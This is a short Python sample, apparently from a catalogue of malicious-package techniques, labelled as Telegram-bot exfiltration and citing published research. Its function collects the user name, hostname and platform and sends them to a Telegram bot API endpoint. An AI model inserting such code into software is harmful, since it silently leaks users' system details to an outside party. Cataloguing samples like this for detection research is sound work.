# technique: hostname, platform and user sent to a Telegram bot API
# class: exfiltration
# source: Phylum and ReversingLabs write-ups of Telegram-bot exfiltration (e.g. "aiocpa", 2024)
# declares: network
import getpass
import platform
import socket

import requests

BOT = "https://api.telegram.org/bot6123456789:AAH1b2c3d4e5f6g7h8i9j0kLmNoPqRsTuVw/sendMessage"


def hello():
    text = f"{getpass.getuser()}@{socket.gethostname()} {platform.platform()}"
    requests.get(BOT, params={"chat_id": "-100188", "text": text}, timeout=5)
